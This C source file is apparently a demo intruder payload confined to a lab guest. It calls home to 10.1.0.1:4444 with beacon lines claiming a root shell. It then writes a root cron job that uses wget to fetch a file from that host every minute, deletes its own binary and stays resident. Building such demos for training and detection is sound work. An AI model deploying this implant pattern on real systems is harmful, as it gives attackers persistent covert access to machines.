// SPDX-License-Identifier: BSD-2-Clause
/*
 * What the intruder of the demo downloads and runs: calls home with a few lines, leaves a cron job,
 * deletes its own file and stays. It runs in the demo's guest only and harms nothing.
 *
 * A program and no script, so that the file that was written is the file that is executed.
 */
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int call_home(const char *address, unsigned short port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(port) };
	static const char *const lines[] = { "hello from shop-web\n", "root shell ready\n",
					     "waiting for orders\n" };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0 || inet_pton(AF_INET, address, &sa.sin_addr) != 1 ||
	    connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		return -1;
	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++)
		if (write(fd, lines[i], strlen(lines[i])) < 0)
			return -1;
	return fd;
}

int main(int argc, char **argv)
{
	FILE *cron;

	(void)argc;
	if (call_home("10.1.0.1", 4444) < 0)
		return 1;
	cron = fopen("/var/spool/cron/crontabs/root", "w");
	if (cron) {
		fputs("* * * * * wget -q -O /tmp/.x http://10.1.0.1:8000/x\n", cron);
		fclose(cron);
	}
	unlink(argv[0]);
	/* until the container is killed */
	pause();
	return 0;
}
